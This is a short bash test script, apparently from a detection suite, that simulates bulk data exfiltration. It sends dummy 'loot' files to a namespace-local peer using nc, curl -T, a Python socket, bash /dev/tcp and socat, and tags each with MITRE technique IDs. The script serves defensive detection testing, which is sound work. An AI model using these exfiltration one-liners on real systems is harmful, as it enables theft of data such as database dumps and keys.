#!/bin/bash
# desc: collected data sent in bulk to another host: tar | nc, curl -T, a python socket, bash's /dev/tcp, socat
# mitre: T1048, T1041, T1030
# expect: bulk_upload_by_network_tool
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

netns_create
mkdir loot && head -c 3M /dev/urandom >loot/db.dump && head -c 1M /dev/urandom >loot/keys.tar
sink() { # a listener on the other host that swallows one connection
	in_ns timeout 20 nc -l "$PEER" "$1" >/dev/null &
	wait_listen "$PEER" "$1"
}
sink 8001; tar cz loot | nc -N "$PEER" 8001
sink 8002; curl -s -m 10 -T loot/db.dump "http://$PEER:8002/" -o /dev/null || true
sink 8003; /usr/bin/python3 -c "
import socket, sys
s = socket.create_connection((sys.argv[1], 8003))
s.sendall(open('loot/db.dump', 'rb').read()); s.shutdown(socket.SHUT_WR); s.recv(1); s.close()" "$PEER"
sink 8004; bash -c "cat loot/db.dump > /dev/tcp/$PEER/8004"
sink 8005; socat -u FILE:loot/db.dump "TCP:$PEER:8005"
wait
